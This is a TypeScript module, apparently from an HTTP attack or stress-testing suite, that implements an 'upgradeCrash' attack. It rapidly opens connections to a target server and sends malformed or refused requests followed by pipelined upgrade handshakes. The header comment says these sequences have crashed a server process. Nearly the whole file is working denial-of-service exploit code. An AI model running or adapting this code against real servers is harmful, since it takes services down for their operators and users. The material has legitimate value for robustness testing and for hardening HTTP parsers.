/** Handshakes behind requests that the connection should have ended with: they ended the process once. */
import type { Socket } from 'node:net'
import type { Attack, Target } from './attack.ts'
import { printHandshake } from './handshake.ts'

const BODY = 'hello'
/** The connection is left after this time, whatever came. */
const LEAVE_MS = 2_000

/** All at once: a request line without a version's space in front, and the handshake. */
function sendTogether(socket: Socket, { host }: Target): void {
  const first = 'HEAD /x?n=100HTTP/1.0\r\nHost: a\r\nConnection: keep-alive, X\r\n\r\n'
  socket.write(first + printHandshake(host, '/'))
}

/** A POST that is refused before its body comes; then, on the connection that lingers, the body, a GET and the handshake. */
function sendAfterRefusal(socket: Socket, { host }: Target, path: string, field: string): void {
  socket.write(`POST ${path} HTTP/1.1\r\nHost: ${host}\r\n${field}\r\nContent-Length: ${BODY.length}\r\n\r\n`)
  socket.once('data', () => {
    socket.write(`${BODY}GET / HTTP/1.1\r\nHost: ${host}\r\n\r\n${printHandshake(host, '/')}`)
  })
}

const SENDERS: readonly ((socket: Socket, target: Target) => void)[] = [
  sendTogether,
  // 417.
  (socket, target) => sendAfterRefusal(socket, target, '/', 'Expect: something'),
  // 400, by the codec that unusual fields lead to.
  (socket, target) => sendAfterRefusal(socket, target, '/%00', 'Keep-Alive: 1'),
]

/** They take turns. */
export const upgradeCrash: Attack = (target, swarm, { perSecond }) => {
  let turn = 0
  swarm.repeat(1000 / Number(perSecond), () => {
    const send = SENDERS[turn++ % SENDERS.length]!
    const socket = swarm.connect(target.http, 'plain', () => send(socket, target))
    socket.resume()
    setTimeout(() => swarm.drop(socket), LEAVE_MS)
  })
}
